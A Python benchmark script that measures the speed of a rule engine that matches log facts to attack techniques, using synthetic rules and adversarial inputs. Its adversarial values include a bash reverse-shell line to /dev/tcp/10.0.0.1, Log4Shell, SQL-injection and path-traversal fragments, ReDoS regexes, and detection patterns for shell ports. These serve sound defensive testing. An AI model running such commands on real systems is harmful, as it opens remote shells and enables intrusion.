"""TTP rule engine benchmark: ``.venv/bin/python bench/ttp.py`` (or ``bench/run.py --only ttp``).

No node is started: the engine is measured in this one process (single-threaded), on the code the
``ttp`` log consumer runs. Django is set up with a temporary ``STIGMEM_DATA_DIR`` (never the
repository's ``var/``), removed at the end.

Parts (targets from the TTP performance issue):
  pack         ``evaluate_batch`` (chunks of 500, as the consumer) over N in-memory facts,
               shipped pack (ttprules/rules, compiled with ``compile_text``)     >= 20,000 facts/s
  generated    the same over 1,000 generated rules (G0001..G1000, ~100 per relation)  >= 2,000 facts/s
  adversarial  worst single ``evaluate_fact`` on adversarial values (1 MiB values, near-miss soups,
               backtracking bait), shipped pack                                   <= 50 ms
               plus: the pack with 1,000 more rules on one relation, and classic ReDoS patterns
               as rules (accepted by RE2 or rejected at validation)
  e2e          N facts written with ``assert_facts`` to a fresh SQLite database with the pack synced,
               then the ``ttp`` consumer drained with ``logtail.run_batch``: facts/s including the
               tags, their facts, events and counters                             (report)

The facts are unsaved ``stigmem.models.Fact`` objects: the relations the pack applies to plus
unrelated ones, values drawn from the labelled corpus (tests/ttprules/corpus: positives and
negatives) and from synthetic benign values (commands, URLs, domains, user agents, paths).
Everything is seeded: two runs see the same facts and rules.

    .venv/bin/python bench/ttp.py                           # all parts (~1 min)
    .venv/bin/python bench/ttp.py --only pack,generated --repeat 5
    .venv/bin/python bench/ttp.py --profile pack            # cProfile of one run, top functions

Prints a table; writes JSON to bench/results/<stamp>-ttp.json (``--json-line``: one ``TTPJSON``
line on stdout instead, for bench/run.py).
"""

from __future__ import annotations

import argparse
import contextlib
import cProfile
import dataclasses
import datetime as dt
import gc
import io
import json
import math
import os
import platform
import pstats
import random
import re
import resource
import shutil
import statistics
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path
from typing import Any

BENCH = Path(__file__).resolve().parent
REPO = BENCH.parent
RESULTS = BENCH / "results"
RULES_DIR = REPO / "ttprules" / "rules"
CORPUS_DIR = REPO / "tests" / "ttprules" / "corpus"
PARTS = ("pack", "generated", "adversarial", "e2e")
TARGETS = {
    "pack": ("facts_per_s", ">=", 20_000),
    "generated": ("facts_per_s", ">=", 2_000),
    "adversarial": ("worst_ms", "<=", 50),
}
CHUNK = 500  # the ttp consumer's batch size (engine.BATCH_SIZE)
MIB = 1024 * 1024

# The relations of the shipped pack, with their share of a realistic observation stream, and
# relations no shipped rule applies to (they cost a dictionary lookup).
PACK_RELATIONS = {
    "observed:command": 0.30,
    "observed:process": 0.14,
    "observed:http_request": 0.12,
    "observed:dns_query": 0.10,
    "observed:user_agent": 0.05,
    "observed:file_write": 0.05,
    "observed:auth_failure": 0.04,
}
OTHER_RELATIONS = {
    "observed:network_connection": 0.06,
    "observed:login": 0.04,
    "observed:registry_write": 0.03,
    "memory:note": 0.04,
    "inventory:os": 0.03,
}
# The relations of the generated rules: ~100 rules each.
GENERATED_RELATIONS = (
    "observed:command",
    "observed:process",
    "observed:http_request",
    "observed:dns_query",
    "observed:user_agent",
    "observed:file_write",
    "observed:auth_failure",
    "observed:network_connection",
    "observed:login",
    "observed:registry_write",
)


# --- Django ------------------------------------------------------------------------------------


def setup_django(data_dir: Path) -> None:
    """Django on a throwaway data directory (its SQLite database is created by ``migrate`` in e2e)."""
    for name in ("DATABASE_URL", "STIGMEM_DB_PATH"):
        os.environ.pop(name, None)
    os.environ["STIGMEM_DATA_DIR"] = str(data_dir)
    os.environ["DJANGO_SETTINGS_MODULE"] = "stigmem.settings"
    sys.path.insert(0, str(REPO))
    import logging

    import django

    django.setup()
    logging.getLogger("django-q").setLevel(logging.WARNING)


# --- values ------------------------------------------------------------------------------------


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


WORDS = _words(
    "billing api worker cache search orders payments auth gateway ledger metrics reports inventory "
    "frontend backend scheduler notifier exporter importer analytics catalog profile session archive "
    "mailer queue storage media thumbnails webhooks audit invoices shipping pricing"
)
SERVICES = _words("nginx postgresql redis-server docker containerd sshd cron rsyslog chronyd kubelet")
WIN_SERVICES = _words("Spooler wuauserv BITS Dnscache W32Time LanmanServer WinRM EventLog")
USERS = _words("alice bob carol dave erin frank grace heidi ivan judy mallory oscar peggy trent")
HOSTS = _words("web01 web02 db01 db02 cache01 build01 jump01 mon01 api01 api02")
DOMAINS = _words(
    "example.com example.net example.org corp.example cdn.example.net github.com pypi.org "
    "googleapis.com amazonaws.com windowsupdate.com ubuntu.com debian.org slack.com"
)
VENDORS = ("Microsoft", "Google", "Mozilla", "Adobe", "Oracle", "JetBrains", "Zoom")
USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
    "kube-probe/1.29",
    "Prometheus/2.51.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
)


def _ip(rng: random.Random, private: bool = True) -> str:
    if private:
        return f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    return (
        f"{rng.choice((34, 52, 104, 142, 151, 185))}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    )


def _command(rng: random.Random) -> str:
    w, w2, u, h, n = rng.choice(WORDS), rng.choice(WORDS), rng.choice(USERS), rng.choice(HOSTS), rng.randrange(1, 500)
    svc, wsvc = rng.choice(SERVICES), rng.choice(WIN_SERVICES)
    ver = f"{rng.randrange(1, 9)}.{rng.randrange(20)}.{rng.randrange(10)}"
    templates = (
        f"ls -la /var/log/{w}",
        f"systemctl restart {svc}.service",
        f"journalctl -u {svc} --since '{n} min ago' --no-pager",
        f"git -C /srv/{w} pull --ff-only origin main",
        f"docker run --rm -v /srv/{w}:/data registry.corp.example/{w}:{ver} {w2} --config /etc/{w}.yaml",
        f"kubectl -n {w} rollout status deployment/{w}-{w2}",
        f"python3 -m pip install --upgrade {w}-client=={ver}",
        f"/usr/bin/python3 /opt/{w}/bin/worker.py --queue {w2} --concurrency {n % 16 + 1}",
        f"tar -czf /backup/{w}-{n}.tar.gz /srv/{w}",
        f"rsync -az --delete /srv/{w}/ backup01:/srv/{w}/",
        f"C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s {wsvc}",
        f'"C:\\Program Files\\{rng.choice(VENDORS)}\\{w.title()}\\{w}.exe" --update --channel stable',
        f"powershell.exe -NoProfile -Command Get-Service -Name {wsvc} | Select-Object Status",
        f"cmd.exe /c dir C:\\Users\\{u}\\Documents\\{w}",
        f"grep -rn '{w2}' /etc/{w}/",
        f"find /var/tmp -name '*.log' -mtime +{n % 30} -print",
        f"ssh -o BatchMode=yes deploy@{h}.corp.example uptime",
        f"psql -h db01 -U {u} -c 'select count(*) from {w}'",
        f"java -Xmx2g -jar /opt/{w}/{w}-{ver}.jar --spring.profiles.active=prod",
        f"node /srv/{w}/server.js --port {8000 + n}",
        f"vim /etc/{w}/{w2}.conf",
        f"make -C /home/{u}/src/{w} test",
        f"npm ci --prefix /srv/{w}",
        f"go build -o /usr/local/bin/{w} ./cmd/{w}",
    )
    if rng.random() < 0.02:  # a long command line: a Java classpath of a few KB
        jars = ":".join(
            f"/opt/{w}/lib/{rng.choice(WORDS)}-{rng.choice(WORDS)}-{ver}.jar" for _ in range(rng.randrange(30, 120))
        )
        return f"/usr/lib/jvm/java-17/bin/java -cp {jars} com.corp.{w}.Main --threads {n % 32 + 1}"
    return rng.choice(templates)


def _http(rng: random.Random) -> str:
    w, w2, n = rng.choice(WORDS), rng.choice(WORDS), rng.randrange(1, 100_000)
    method = rng.choice(("GET", "GET", "GET", "POST", "PUT", "DELETE"))
    paths = (
        f"/api/v1/{w}/{n}",
        f"/api/v2/{w}?page={n % 50}&limit=50&sort={w2}",
        f"/static/{w}/{w2}.{rng.choice(('js', 'css', 'png', 'woff2'))}?v={n}",
        f"/{w}/search?q={w2}+{rng.choice(WORDS)}&lang=en",
        "/healthz",
        f"/login?next=/{w}",
        f"/graphql?operationName={w.title()}{w2.title()}",
    )
    return f"{method} {rng.choice(paths)} HTTP/1.1"


def _dns(rng: random.Random) -> str:
    w, d = rng.choice(WORDS), rng.choice(DOMAINS)
    return rng.choice((f"{w}.{d}", f"{w}-{rng.randrange(100)}.{d}", f"www.{d}", d, f"{rng.choice(HOSTS)}.corp.example"))


def _file(rng: random.Random) -> str:
    w, u = rng.choice(WORDS), rng.choice(USERS)
    h = f"{rng.getrandbits(64):016x}"
    return rng.choice(
        (
            f"/var/lib/{w}/{rng.choice(WORDS)}.db",
            f"/home/{u}/.cache/{w}/{h}",
            f"/srv/{w}/releases/{h[:8]}/app.tar.gz",
            f"C:\\Users\\{u}\\AppData\\Local\\Temp\\{h}.tmp",
            f"/var/log/{w}/{w}.log",
        )
    )


def synthetic_value(relation: str, rng: random.Random) -> tuple[str, Any]:
    """A benign (type, v) for a relation."""
    if relation in ("observed:command", "observed:process"):
        return "string", _command(rng)
    if relation == "observed:http_request":
        return "string", _http(rng)
    if relation == "observed:dns_query":
        return "string", _dns(rng)
    if relation == "observed:user_agent":
        return "string", rng.choice(USER_AGENTS)
    if relation == "observed:file_write":
        return "string", _file(rng)
    if relation == "observed:auth_failure":
        if rng.random() < 0.3:
            return "number", rng.randrange(1, 5)
        return "string", f"ssh user={rng.choice(USERS)} from {_ip(rng)} count={rng.randrange(1, 5)}"
    if relation == "observed:network_connection":
        return "string", f"{_ip(rng, private=rng.random() < 0.7)}:{rng.choice((443, 80, 22, 5432, 6379, 8443))}"
    if relation == "observed:login":
        return "string", f"{_ip(rng)} {rng.choice(USERS)}@{rng.choice(HOSTS)} session={rng.getrandbits(32):08x}"
    if relation == "observed:registry_write":
        return "string", f"HKLM\\SOFTWARE\\{rng.choice(VENDORS)}\\{rng.choice(WORDS).title()}\\Version"
    if relation == "inventory:os":
        return "string", rng.choice(("Ubuntu 22.04.4 LTS", "Debian 12", "Windows Server 2022", "macOS 14.4"))
    kind = rng.random()
    if kind < 0.6:
        return "string", f"the user prefers option {rng.randrange(13)} for {rng.choice(WORDS)}"
    if kind < 0.8:
        return "number", rng.randrange(100_000)
    return "boolean", rng.random() < 0.5


def load_corpus() -> dict[str, dict[str, list[tuple[str, Any]]]]:
    """{relation: {"positives": [(type, v)], "negatives": [...]}} from the labelled corpus."""
    import yaml

    corpus: dict[str, dict[str, list[tuple[str, Any]]]] = {}
    for path in sorted(CORPUS_DIR.glob("*.yaml")):
        raw = yaml.safe_load(path.read_text(encoding="utf-8")) or {}
        for label in ("positives", "negatives"):
            for example in raw.get(label) or []:
                value = example.get("value") or {}
                entry = corpus.setdefault(example["relation"], {"positives": [], "negatives": []})
                entry[label].append((value.get("type", "string"), value.get("v")))
    return corpus


def stored_text(value_type: str, v: Any) -> str:
    """value_v as the node stores it (WIRE.md §2.2)."""
    if isinstance(v, bool):
        return "true" if v else "false"
    return "" if v is None else str(v)


def fact_specs(
    n: int,
    relations: dict[str, float],
    corpus: dict,
    seed: int,
    positive: float,
    negative: float,
    suspicious: float = 0.0,
) -> list[dict[str, Any]]:
    """``n`` fact bodies over ``relations`` (weights); values from the corpus (``positive``,
    ``negative``), tool-bearing (``suspicious``) or synthetic benign."""
    rng = random.Random(seed)
    names, weights = list(relations), list(relations.values())
    specs = []
    for i in range(n):
        relation = rng.choices(names, weights)[0]
        pool = corpus.get(relation)
        draw = rng.random()
        if pool and pool["positives"] and draw < positive:
            value_type, v = rng.choice(pool["positives"])
        elif pool and pool["negatives"] and draw < positive + negative:
            value_type, v = rng.choice(pool["negatives"])
        elif draw > 1 - suspicious:
            value_type, v = "string", suspicious_value(relation, rng)
        else:
            value_type, v = synthetic_value(relation, rng)
        if value_type == "string" and len(str(v).encode()) > 4096:
            value_type = "text"  # a string value is at most 4096 bytes (WIRE.md §2.2)
        specs.append(
            {
                "entity": f"stigmem://bench/host/{rng.choice(HOSTS)}-{i % 997}",
                "relation": relation,
                "value": {"type": value_type, "v": v},
                "source": f"stigmem://bench/agent/sensor{i % 20}",
                "confidence": rng.choice((0.7, 0.9, 1.0)),
                "scope": rng.choice(("team", "local", "company")),
            }
        )
    return specs


def make_facts(specs: list[dict[str, Any]]) -> list:
    """Unsaved Fact objects (what the consumer reads: the columns of engine.FACT_COLUMNS)."""
    import uuid

    from stigmem.models import Fact

    return [
        Fact(
            id=uuid.uuid4(),
            seq=i + 1,
            tenant="default",
            entity=s["entity"],
            relation=s["relation"],
            value_type=s["value"]["type"],
            value_v=stored_text(s["value"]["type"], s["value"]["v"]),
            source=s["source"],
            confidence=s["confidence"],
            scope=s["scope"],
            garden="",
        )
        for i, s in enumerate(specs)
    ]


# --- rules -------------------------------------------------------------------------------------


def pack_index(extra: list | None = None):
    from ttprules import attack
    from ttprules.compiler import compile_text
    from ttprules.engine import ActiveRule, RuleIndex

    rules = [compile_text(p.read_text(encoding="utf-8"), p.name) for p in sorted(RULES_DIR.glob("*.yaml"))]
    active = [ActiveRule(r, "enabled", None) for r in [*rules, *(extra or [])]]
    return RuleIndex(active, attack.catalogue().version), len(rules)


def _yaml_str(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _emits(rng: random.Random, techniques: list) -> str:
    """1-2 emits entries: a technique (or sub-technique) and a tactic it belongs to."""
    lines = []
    chosen: set[str] = set()
    for _ in range(1 if rng.random() < 0.8 else 2):
        tech = rng.choice(techniques)
        parent_id = tech.parent if tech.is_subtechnique else tech.id
        if parent_id in chosen:  # one entry per technique
            continue
        chosen.add(parent_id)
        parent_id = tech.parent if tech.is_subtechnique else tech.id
        lines.append(f"  - tactic: {rng.choice(sorted(tech.tactics))}")
        lines.append(f"    technique_id: {parent_id}")
        if tech.is_subtechnique:
            lines.append(f"    sub_technique_id: {tech.id}")
        lines.append(f"    confidence: {rng.choice((0.5, 0.6, 0.7, 0.8, 0.9))}")
    return "\n".join(lines)


def _tools() -> tuple[str, ...]:
    """Made-up tool names (``zorvak``, ``quintex``...): the words generated rules look for. Benign
    values never hold them; 1 % of the generated part's values do (``suspicious_value``)."""
    rng = random.Random(8)
    onsets, vowels, codas = "b d f g k l m n p r s t v z qu st tr kr", "a e i o u", "k x n r s t l m ks"
    made = set()
    while len(made) < 400:
        word = "".join(rng.choice(onsets.split()) + rng.choice(vowels.split()) for _ in range(rng.randrange(2, 4)))
        made.add(word + rng.choice(codas.split()))
    return tuple(sorted(made))


TOOLS = _tools()


def suspicious_value(relation: str, rng: random.Random) -> str:
    """A value holding a tool name, for the generated rules to find."""
    tool, w = rng.choice(TOOLS), rng.choice(WORDS)
    if relation == "observed:http_request":
        return f"GET /{w}/{tool}.php?cmd=id&{tool}={'A' * rng.randrange(10, 80)} HTTP/1.1"
    if relation == "observed:dns_query":
        return f"{tool}-{rng.randrange(100)}.{rng.choice(DOMAINS)}"
    if relation == "observed:user_agent":
        return f"{tool}/{rng.randrange(1, 9)}.{rng.randrange(10)} (+https://{tool}.example)"
    if relation in ("observed:network_connection", "observed:login"):
        return f"{_ip(rng, rng.random() < 0.5)}:{rng.choice((4444, 1337, 31337))} {tool}"
    return f"/tmp/.{tool} -{rng.choice('cxe')} {_ip(rng)}:{rng.choice((4444, 1337, 31337))} --{w}"


def _signal_regex(rng: random.Random) -> str:
    a, b, c = rng.sample(TOOLS, 3)
    w, u, d = rng.choice(WORDS), rng.choice(USERS), rng.choice(DOMAINS)
    return rng.choice(
        (
            rf"(?i)\b{a}\b",
            rf"(?i)\b{a}\b.*\b{w}\b",
            rf"(?i)\b(?:{a}|{b}|{c})(?:\.exe|\.sh|\.py)?\s+--?[a-z]+",
            r"[A-Za-z0-9+/]{40,}={0,2}",
            rf"(?i)/(?:{a}|{b})/[a-z0-9_-]+\.php",
            r"\b\d{1,3}(?:\.\d{1,3}){3}:(?:4444|1337|31337)\b",
            rf"(?i)\b{a}[0-9.]*(?:\.exe)?\s+-{rng.choice('abcdefghijklmnopqrstuvwxyz')}",
            rf"(?i)(?:^|\s){u}@{a}[a-z0-9.-]*",
            rf"(?i)\b{a}\.{re.escape(d)}\.?$",
            rf"(?i)\b(?:{a}|{b})-\d+\.",
            rf"(?i)(?:select|union|sleep)\W+\w*{a}",
            r"(?i)\\(?:temp|appdata)\\[0-9a-f]{16}\.tmp$",
            rf"(?:\?|&){a}=[^&]{{64,}}",
            rf"(?i)^/tmp/\.(?:{a}|{b}|{c})\b",
        )
    )


def _signal(rng: random.Random) -> str:
    """A leaf that looks for something specific in value.v (a tool name, 1 in 6 a common word)."""
    token = rng.choice(WORDS) if rng.random() < 0.15 else rng.choice(TOOLS)
    op = rng.choices(("regex", "contains", "icontains"), (60, 20, 20))[0]
    if op == "regex":
        return f"{{field: value.v, regex: {_yaml_str(_signal_regex(rng))}}}"
    if op == "contains":
        return f"{{field: value.v, contains: {_yaml_str(rng.choice((token, f'/{token}', f'-{token}', f'{token}.')))}}}"
    return f"{{field: value.v, icontains: {_yaml_str(rng.choice((token.upper(), token.title(), f'{token} -')))}}}"


def _context(rng: random.Random, relation: str) -> str:
    """A broad condition that narrows a signal (prefix, suffix, sensor, scope, network...)."""
    kind = rng.choices(("startswith", "endswith", "source", "scope", "cidr", "in"), (20, 15, 20, 15, 15, 15))[0]
    if kind == "cidr" and relation in ("observed:network_connection", "observed:login"):
        nets = rng.sample(("10.0.0.0/8", "192.168.0.0/16", "172.16.0.0/12", "100.64.0.0/10", "2001:db8::/32"), 2)
        return f"{{field: value.v, cidr: [{', '.join(nets)}]}}"
    if kind == "startswith":
        prefix = rng.choice(("/usr/bin/", "/tmp/", "C:\\Windows\\", "GET /", "powershell", "10.", "POST /"))
        return f"{{field: value.v, startswith: {_yaml_str(prefix)}}}"
    if kind == "endswith":
        suffix = rng.choice((".exe", ".sh", " HTTP/1.1", f".{rng.choice(DOMAINS)}", ".tmp", ".log"))
        return f"{{field: value.v, endswith: {_yaml_str(suffix)}}}"
    if kind == "source":
        sensors = ", ".join(f"stigmem://bench/agent/sensor{k}" for k in rng.sample(range(20), 10))
        return f"{{field: source, in: [{sensors}]}}"
    if kind == "scope":
        return "{field: scope, in: [team, company]}"
    return f"{{field: value.v, in: [{_yaml_str(rng.choice(USER_AGENTS))}, 'crontab -l', 'whoami', 'id', 42, true]}}"


def _match(rng: random.Random, relation: str) -> str:
    """A match tree, as YAML lines at indent 2 under ``match:``."""
    shape = rng.random()
    if shape < 0.30:
        return f"  {_signal(rng)}"
    if shape < 0.50:
        return "  any:\n" + "\n".join(f"    - {_signal(rng)}" for _ in range(rng.randrange(2, 5)))
    if shape < 0.75:
        exclude = rng.choice(("healthcheck", rng.choice(WORDS), "--dry-run", "/usr/share/"))
        extra = f"\n    - {_context(rng, relation)}" if rng.random() < 0.4 else ""
        return f"  all:\n    - {_signal(rng)}\n    - not: {{field: value.v, icontains: {_yaml_str(exclude)}}}{extra}"
    if shape < 0.90:
        inner = "\n".join(f"        - {_signal(rng)}" for _ in range(rng.randrange(2, 4)))
        return f"  all:\n    - {_context(rng, relation)}\n    - any:\n{inner}\n    - {{field: confidence, gte: 0.6}}"
    return (
        "  all:\n    - {field: value.type, in: [string, text]}\n"
        f"    - {{field: entity, startswith: 'stigmem://bench/host/'}}\n    - {_signal(rng)}\n"
        "    - not: {field: garden_id, exists: true}"
    )


def generated_rule_texts(count: int, seed: int, relation: str | None = None) -> list[tuple[str, str]]:
    """``count`` valid rule files (file name, YAML): G0001.. over GENERATED_RELATIONS (or one ``relation``)."""
    from ttprules import attack

    catalogue = attack.catalogue()
    techniques = [t for t in catalogue.techniques() if not t.revoked and not t.deprecated and t.tactics]
    rng = random.Random(seed)
    texts = []
    for i in range(count):
        rule_id = f"G{i + 1:04d}"
        applies = relation or GENERATED_RELATIONS[i % len(GENERATED_RELATIONS)]
        text = (
            f"rule_id: {rule_id}\nrule_version: 1\nname: generated_{rule_id.lower()}\n"
            f"description: Generated for the benchmark ({applies})\n"
            f'applies_to: ["{applies}"]\nmatch:\n{_match(rng, applies)}\n'
            f"emits:\n{_emits(rng, techniques)}\n"
            f"evidence_fields: [entity, value.v, source]\n"
        )
        texts.append((f"{rule_id}.yaml", text))
    return texts


def compile_all(texts: list[tuple[str, str]]) -> list:
    from ttprules.compiler import compile_text

    return [compile_text(text, name) for name, text in texts]


# --- measuring ---------------------------------------------------------------------------------


def _cpu() -> float:
    usage = resource.getrusage(resource.RUSAGE_SELF)
    return usage.ru_utime + usage.ru_stime


def _busy() -> float:
    sys.path.insert(0, str(BENCH))
    import profiling

    return profiling.machine_busy_seconds()


def wait_for_quiet(max_wait_s: float, threshold: float = 0.15) -> float:
    """Wait (at most ``max_wait_s``) until other processes use < ``threshold`` of the machine for a second."""
    started = time.monotonic()
    cores = os.cpu_count() or 1
    while time.monotonic() - started < max_wait_s:
        busy0, own0 = _busy(), _cpu()
        time.sleep(1.0)
        if ((_busy() - busy0) - (_cpu() - own0)) / cores < threshold:
            break
    return round(time.monotonic() - started, 1)


@contextlib.contextmanager
def timed(out: dict):
    """Wall, own CPU and everything else's CPU (other processes on the shared machine) of a block."""
    gc.collect()
    busy0, cpu0, wall0 = _busy(), _cpu(), time.perf_counter()
    yield
    wall, cpu = time.perf_counter() - wall0, _cpu() - cpu0
    out.update(wall_s=wall, cpu_s=cpu, other_cpu_s=max(0.0, _busy() - busy0 - cpu))


def throughput(facts: list, index, repeat: int, profile: Path | None = None) -> dict:
    """``evaluate_batch`` over ``facts`` in consumer-sized chunks, ``repeat`` times; the median run."""
    from ttprules.engine import evaluate_batch

    chunks = [facts[i : i + CHUNK] for i in range(0, len(facts), CHUNK)]
    evaluate_batch(chunks[0], index)  # warm-up: the relation memo, first-call costs
    runs = []
    findings = 0
    for _ in range(repeat):
        run: dict[str, Any] = {}
        found = 0
        with timed(run):
            for chunk in chunks:
                found += len(evaluate_batch(chunk, index).findings)
        run["facts_per_s"] = len(facts) / run["wall_s"]
        run["facts_per_cpu_s"] = len(facts) / run["cpu_s"]
        runs.append(run)
        findings = found
    # Which facts matched (one more pass, untimed).
    rules_matched: Counter = Counter()
    matched_facts: set = set()
    candidates = 0
    for chunk in chunks:
        batch = evaluate_batch(chunk, index)
        candidates += batch.tally.evaluated
        matched_facts.update(f.fact.id for f in batch.findings)
        rules_matched.update(batch.tally.matched)
    if profile is not None:
        profiler = cProfile.Profile()
        profiler.enable()
        for chunk in chunks:
            evaluate_batch(chunk, index)
        profiler.disable()
        stream = io.StringIO()
        pstats.Stats(profiler, stream=stream).sort_stats("tottime").print_stats(25)
        profile.write_text(stream.getvalue())
    median = sorted(runs, key=lambda r: r["facts_per_s"])[len(runs) // 2]
    return {
        "facts": len(facts),
        "candidates": candidates,
        "findings": findings,
        "matched_facts": len(matched_facts),
        "rules_fired": len(rules_matched),
        "facts_per_s": round(median["facts_per_s"]),
        "facts_per_cpu_s": round(median["facts_per_cpu_s"]),
        "candidate_facts_per_s": round(candidates / len(facts) * median["facts_per_s"]),
        "us_per_fact": round(1e6 / median["facts_per_s"], 2),
        "runs": [{k: round(v, 3) if isinstance(v, float) else v for k, v in r.items()} for r in runs],
    }


def run_pack(args: argparse.Namespace, corpus: dict) -> dict:
    index, rule_count = pack_index()
    relations = {**PACK_RELATIONS, **OTHER_RELATIONS}
    specs = fact_specs(args.facts, relations, corpus, seed=1, positive=0.04, negative=0.12)
    facts = make_facts(specs)
    print(f"pack: {rule_count} rules, {len(facts):,} facts ...", flush=True)
    result = throughput(facts, index, args.repeat, _profile_path(args, "pack"))
    result.update(part="pack", rules=rule_count, relations=Counter(s["relation"] for s in specs).most_common())
    # The same over the relations the pack applies to only (every fact meets rules).
    only = [f for f in facts if index.rules_for(f.relation)]
    result["applicable_only"] = throughput(only, index, args.repeat)
    return result


def run_generated(args: argparse.Namespace, corpus: dict) -> dict:
    from ttprules import attack
    from ttprules.engine import ActiveRule, RuleIndex

    texts = generated_rule_texts(args.rules, seed=2)
    started = time.perf_counter()
    rules = compile_all(texts)
    compile_s = time.perf_counter() - started
    index = RuleIndex([ActiveRule(r, "enabled", None) for r in rules], attack.catalogue().version)
    weights = {r: 1.0 for r in GENERATED_RELATIONS}
    specs = fact_specs(args.generated_facts, weights, corpus, seed=3, positive=0.04, negative=0.12, suspicious=0.01)
    facts = make_facts(specs)
    per_relation = Counter(len(index.rules_for(r)) for r in GENERATED_RELATIONS)
    print(f"generated: {len(rules)} rules (compiled in {compile_s:.1f} s), {len(facts):,} facts ...", flush=True)
    result = throughput(facts, index, args.repeat, _profile_path(args, "generated"))
    result.update(
        part="generated",
        rules=len(rules),
        compile_s=round(compile_s, 2),
        rules_per_relation=sorted(per_relation.items()),
        example_rule=texts[4][1],
    )
    return result


# --- adversarial -------------------------------------------------------------------------------

# Classic catastrophic-backtracking patterns, and counted repetitions that defeat RE2's DFA.
PATHOLOGICAL = (
    r"(a+)+$",
    r"(a|aa)*b",
    r"(.*a){20}",
    r"(x+x+)+y",
    r"^(([a-z])+.)+[A-Z]([a-z])+$",
    r"(\w+\s?)*$",
    r"(?:a?){30}a{30}",
    r"(.*a){1000}",
    r"(.*a){1001}",
    r"\b(\w+)\s+\1\b",
    r"(?=a)a",
    r"(?s)x.{0,1000}y.{0,1000}z",
    r"x[xy]{1000}z",
    r"(?s).{0,1000}x.{0,1000}$",
)


def adversarial_values(index) -> list[tuple[str, str, str]]:
    """(name, relation, value): 1 MiB values and near-miss bait for the pack's patterns."""
    rng = random.Random(4)
    # Words from the pack's patterns: a value made of them keeps every DFA busy with partial matches.
    words: set[str] = set()
    for active in index.rules:
        words.update(re.findall(r"[A-Za-z][A-Za-z:_\-]{3,}", str(active.rule.applies_to)))
    for path in sorted(RULES_DIR.glob("*.yaml")):
        for pattern in re.findall(r"regex: '(.*)'", path.read_text(encoding="utf-8")):
            words.update(w for w in re.findall(r"[A-Za-z][A-Za-z0-9_\-:.]{2,}", pattern.replace("\\", " ")))
    bait = sorted(words)

    def soup(size: int, sep: str = " ") -> str:
        parts, n = [], 0
        while n < size:
            w = rng.choice(bait)
            parts.append(w)
            n += len(w) + len(sep)
        return sep.join(parts)[:size]

    printable = "".join(chr(c) for c in range(32, 127))
    values = [
        ("a*1MiB+!", "a" * MIB + "!"),
        ("random printable 1MiB", "".join(rng.choice(printable) for _ in range(MIB))),
        ("pack-word soup 1MiB", soup(MIB)),
        ("pack-word soup, no spaces", soup(MIB, "")),
        ("pack-word soup + positive at the end", soup(64 * 1024 - 80) + " bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
        ("'python exec ' x N", "python -c exec " * (MIB // 15)),
        ("'bash -i >& ' x N", "bash -i >& " * (MIB // 11)),
        ("'powershell -e' x N", "powershell -e " * (MIB // 14)),
        ("'${jndi:' x N", "${jndi:" * (MIB // 7)),
        ("'%27 OR ' x N", "%27%20OR%20" * (MIB // 12)),
        ("'../' x N", "../" * (MIB // 3)),
        ("whitespace 1MiB", " \t" * (MIB // 2)),
        ("'\\\\' x N", "\\" * MIB),
        ("e-acute 1MiB (2-byte UTF-8)", "\u00e9" * MIB),
        ("astral 1MiB (4-byte UTF-8)", "\U0001d54f" * MIB),
        ("mixed-case soup (casefold)", "".join(c.upper() if rng.random() < 0.5 else c for c in soup(MIB))),
        ("lone surrogates", "\ud800" * (MIB // 4)),
        (
            "base64-ish 1MiB",
            "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(MIB)),
        ),
        ("hex labels (dns)", ".".join(f"{rng.getrandbits(200):050x}" for _ in range(MIB // 51))),
        ("long number", "9" * 4000),
    ]
    relations = ("observed:command", "observed:http_request", "observed:user_agent", "observed:dns_query")
    out = []
    for name, value in values:
        for relation in relations:
            out.append((name, relation, value))
    return out


def _fact(relation: str, value: str, value_type: str = "string"):
    import uuid

    from stigmem.models import Fact

    return Fact(
        id=uuid.uuid4(),
        seq=1,
        tenant="default",
        entity="stigmem://bench/host/web01",
        relation=relation,
        value_type=value_type,
        value_v=value,
        source="stigmem://bench/agent/sensor1",
        confidence=0.9,
        scope="team",
        garden="",
    )


def time_evaluations(index, relation: str, value: str, runs: int) -> list[float]:
    """Milliseconds of ``fact_view`` + ``evaluate_fact`` for one fact, ``runs`` times. Every run gets a
    new fact with a fresh copy of the value (made outside the timing), as the consumer would: a text
    the compiler has seen before (its capped, encoded, case-folded forms) must not make it cheaper."""
    from ttprules.engine import Tally, evaluate_fact, fact_view

    times = []
    for _ in range(runs):
        fact = _fact(relation, (value + ".")[:-1])
        tally = Tally()
        started = time.perf_counter()
        evaluate_fact(index, fact, fact_view(fact), tally)
        times.append((time.perf_counter() - started) * 1000)
    return times


def _summary(times: list[float]) -> dict:
    ordered = sorted(times)
    return {
        "runs": len(times),
        "p50_ms": round(statistics.median(ordered), 3),
        "p99_ms": round(ordered[max(0, math.ceil(len(ordered) * 0.99) - 1)], 3),  # nearest rank
        "max_ms": round(ordered[-1], 3),
    }


def worst_case(index, cases: list[tuple[str, str, str]], screen_runs: int, runs: int) -> dict:
    """Screen every case with a few runs, then time the worst one ``runs`` times."""
    screened = []
    for name, relation, value in cases:
        times = time_evaluations(index, relation, value, screen_runs)
        screened.append(
            {"value": name, "relation": relation, "rules": len(index.rules_for(relation)), **_summary(times)}
        )
    screened.sort(key=lambda r: r["p50_ms"], reverse=True)
    top = screened[0]
    value = next(v for n, r, v in cases if n == top["value"] and r == top["relation"])
    gc.collect()
